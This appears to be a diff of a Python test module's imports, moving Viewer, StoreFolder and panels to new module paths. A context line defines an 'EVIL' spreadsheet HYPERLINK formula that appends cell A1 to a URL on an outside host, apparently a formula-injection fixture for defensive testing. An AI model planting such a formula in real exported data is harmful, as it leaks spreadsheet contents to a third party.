@@ -9,10 +9,10 @@ from dataclasses import replace
 import pytest
 
 from callbacks.application import create_app
-from data.access import Viewer
+from data.answers.panels import panels
 from data.settings import Settings
-from data.store import StoreFolder
-from layouts.views.panels import panels
+from data.store.version import StoreFolder
+from data.viewer import Viewer
 from tests.fixtures_store import build, make_batch
 
 EVIL = '=HYPERLINK("http://example.org?x="&A1,"more")'
